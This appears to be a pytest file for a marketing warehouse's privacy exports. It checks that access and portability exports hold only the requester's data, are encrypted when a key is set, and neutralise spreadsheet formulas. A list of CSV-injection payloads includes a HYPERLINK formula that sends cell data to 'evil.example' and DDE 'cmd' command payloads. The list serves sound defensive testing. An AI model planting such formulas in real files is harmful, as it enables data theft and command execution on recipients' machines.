"""An access export holds everything about the person, and nothing about anyone else."""

from __future__ import annotations

import csv
import json

from governed_marketing.dbt import manifest_path
from governed_marketing.privacy import access, dsr
from governed_marketing.privacy.process import process_pending

from tests.unit.privacy.conftest import AS_OF, PEOPLE, email_of, identifiers


def test_access_export_holds_the_persons_data_and_nobody_elses(home):
    with home.connect() as conn:
        request_id = dsr.submit(conn, "access", "  BOB.Quill@privacy-test.example", policy=home.policy, key=home.key)
    result = process_pending(as_of=None, settings=home.settings, policy=home.policy)
    assert result["access"] == [request_id]
    export = home.path / "exports" / request_id
    document = json.loads((export / "subject.json").read_text(encoding="utf-8"))
    assert {row["contact_id"] for row in document["contacts"]} == {"c002", "c003"}  # every row sharing the email
    assert len(document["consent_history"]) == 4
    assert {e["notice_version"] for e in document["consent_history"]} == {"v3"}  # proof of consent
    assert {e["source"] for e in document["consent_history"]} == {"signup_form"}
    assert len(document["activity"]) == 2
    assert [m["contact_id"] for m in document["messages"]] == ["c002"]
    assert [r["request_id"] for r in document["requests"]] == [request_id]
    assert document["purposes"][0]["lawful_basis"] == "consent"
    assert any(r["recipient"] == "openai" for r in document["recipients"])
    everything = "\n".join(p.read_text(encoding="utf-8") for p in sorted(export.iterdir()))
    for value in identifiers("bob"):
        assert value in everything
    for other in ("alice", "carol"):
        for value in identifiers(other):
            assert value.lower() not in everything.lower(), f"{other}'s data is in Bob's export"
        for contact_id, _ in PEOPLE[other]["rows"]:
            assert f'"{contact_id}"' not in everything and f"\n{contact_id}," not in everything
    with (export / "contacts.csv").open(encoding="utf-8") as handle:
        assert [row["contact_id"] for row in csv.DictReader(handle)] == ["c002", "c003"]
    assert {p.name for p in export.iterdir()} >= {
        "subject.json",
        "contacts.csv",
        "consent_history.csv",
        "activity.csv",
        "messages.csv",
        "requests.csv",
        "purposes.csv",
        "recipients.csv",
    }


def test_a_person_the_warehouse_does_not_hold_gets_an_export_that_says_so(home):
    with home.connect() as conn:
        data = access.collect(
            conn,
            "nobody@privacy-test.example",
            policy=home.policy,
            key=home.key,
            outbox=home.path / "outbox",
            manifest_path=manifest_path(home.settings),
        )
    assert data["contacts"] == [] and data["messages"] == [] and data["consent_history"] == []
    assert email_of("alice") and AS_OF


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_reach_the_csvs_neutralised_and_subject_json_exact(tmp_path, monkeypatch):
    from datetime import datetime

    from governed_marketing.policy import load_policy
    from governed_marketing.settings import get_settings, reset_settings

    from tests.unit.privacy.conftest import Home, write_export

    monkeypatch.setenv("GMP_HOME", str(tmp_path / "home"))
    reset_settings()
    notes = {"bob": FORMULAS[0], "alice": FORMULAS[1]}
    home = Home(settings=get_settings(), policy=load_policy(), export=write_export(tmp_path / "x", notes=notes))
    home.ingest(home.export, now=datetime(2026, 11, 1, 8, 0, 0))
    rows = [{"cell": formula, "amount": -5} for formula in FORMULAS]
    access.write_csv_for_people(tmp_path / "cells.csv", rows)
    with (tmp_path / "cells.csv").open(encoding="utf-8", newline="") as handle:
        written = list(csv.DictReader(handle))
    assert [r["cell"] for r in written] == ["'" + f for f in FORMULAS]
    assert {r["amount"] for r in written} == {"-5"}  # a number is not a formula

    with home.connect() as conn:
        request_id = dsr.submit(conn, "portability", email_of("bob"), policy=home.policy, key=home.key)
    process_pending(as_of=None, settings=home.settings, policy=home.policy)
    export = home.path / "exports" / request_id
    with (export / "contacts.csv").open(encoding="utf-8", newline="") as handle:
        contacts = list(csv.DictReader(handle))
    assert {r["notes"] for r in contacts} == {"'" + FORMULAS[0]}
    assert {r["phone"] for r in contacts} == {"'" + PEOPLE["bob"]["phone"]}  # "+33 ..." leads like a formula
    for path in export.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(cell.startswith(access.FORMULA_LEADS) for cell in row), path.name
    document = json.loads((export / "subject.json").read_text(encoding="utf-8"))
    assert {r["notes"] for r in document["contacts"]} == {FORMULAS[0]}  # JSON is not a spreadsheet: exact
    assert "single quote" in (export / "README.txt").read_text(encoding="utf-8")
    reset_settings()


def test_with_an_export_key_no_file_of_the_export_is_readable_without_it(home, monkeypatch):
    import pytest
    from cryptography.fernet import Fernet, InvalidToken
    from governed_marketing.settings import reset_settings

    key = Fernet.generate_key()
    monkeypatch.setenv("GMP_EXPORT_ENCRYPTION_KEY", key.decode())
    reset_settings()
    with home.connect() as conn:
        request_id = dsr.submit(conn, "access", email_of("bob"), policy=home.policy, key=home.key)
    process_pending(as_of=None, settings=home.settings, policy=home.policy)
    export = home.path / "exports" / request_id
    names = {p.name for p in export.iterdir()}
    assert "subject.json.fernet" in names and "contacts.csv.fernet" in names
    assert names - {"README.txt"} == {n for n in names if n.endswith(".fernet")}  # nothing else in the clear
    raw = b"".join(p.read_bytes() for p in export.iterdir())
    for value in identifiers("bob"):
        assert value.encode() not in raw and value.lower().encode() not in raw.lower()
    out = home.path.parent / "decrypted"
    access.decrypt_export(export, key, out)
    document = json.loads((out / "subject.json").read_text(encoding="utf-8"))
    assert {row["contact_id"] for row in document["contacts"]} == {"c002", "c003"}
    assert "'" + PEOPLE["bob"]["phone"] in (out / "contacts.csv").read_text(encoding="utf-8")
    with pytest.raises(InvalidToken):
        access.decrypt_export(export, Fernet.generate_key(), home.path.parent / "wrong")


def test_an_export_key_that_is_not_a_fernet_key_is_refused_by_name(tmp_path):
    import pytest
    from governed_marketing.settings import Settings
    from pydantic import SecretStr

    with pytest.raises(RuntimeError, match="GMP_EXPORT_ENCRYPTION_KEY"):
        Settings(home=tmp_path, export_encryption_key=SecretStr("short")).resolve_export_key()


def test_with_an_export_key_the_no_data_held_answer_is_encrypted_too(home, monkeypatch):
    from cryptography.fernet import Fernet
    from governed_marketing.settings import reset_settings

    key = Fernet.generate_key()
    monkeypatch.setenv("GMP_EXPORT_ENCRYPTION_KEY", key.decode())
    reset_settings()
    stranger = "never.heard.of@example.test"
    with home.connect() as conn:
        request_id = dsr.submit(conn, "access", stranger, policy=home.policy, key=home.key)
    process_pending(as_of=None, settings=home.settings, policy=home.policy)
    export = home.path / "exports" / request_id
    assert {p.name for p in export.iterdir()} == {"subject.json.fernet"}  # the address is not in the clear
    assert stranger.encode() not in (export / "subject.json.fernet").read_bytes()
    access.decrypt_export(export, key, home.path.parent / "decrypted")
    document = json.loads((home.path.parent / "decrypted" / "subject.json").read_text(encoding="utf-8"))
    assert document["data_held"] is False and document["subject"]["email"] == stranger


def test_requests_answered_together_each_get_only_their_own_persons_data(home):
    """One pass joins every table to all its access requests at once: the rows must not cross between them."""
    with home.connect() as conn:
        ids = {
            name: dsr.submit(conn, kind, email_of(name), policy=home.policy, key=home.key)
            for name, kind in (("alice", "access"), ("bob", "portability"), ("carol", "access"))
        }
        twice = dsr.submit(conn, "access", email_of("bob"), policy=home.policy, key=home.key)
    result = process_pending(as_of=None, settings=home.settings, policy=home.policy)
    assert sorted(result["access"] + result["portability"]) == sorted([*ids.values(), twice])
    for name, request_id in [*ids.items(), ("bob", twice)]:
        document = json.loads((home.path / "exports" / request_id / "subject.json").read_text(encoding="utf-8"))
        own = {contact_id for contact_id, _ in PEOPLE[name]["rows"]}
        assert {row["contact_id"] for row in document["contacts"]} == own
        assert {row["contact_id"] for row in document["consent_history"] + document["activity"]} == own
        assert {m["contact_id"] for m in document["messages"]} <= own
        assert {r["request_id"] for r in document["requests"]} == (
            {ids["bob"], twice} if name == "bob" else {request_id}
        )
        assert all(r["status"] for r in document["requests"])  # the ledger joined to each of them
        everything = json.dumps(document).lower()
        for other in set(PEOPLE) - {name}:
            assert not any(f'"{c}"' in everything for c, _ in PEOPLE[other]["rows"]), (name, other)
            if (name, other) != ("carol", "alice"):  # Carol's own notes name Alice (the fixture's referral)
                assert not any(value.lower() in everything for value in identifiers(other)), (name, other)
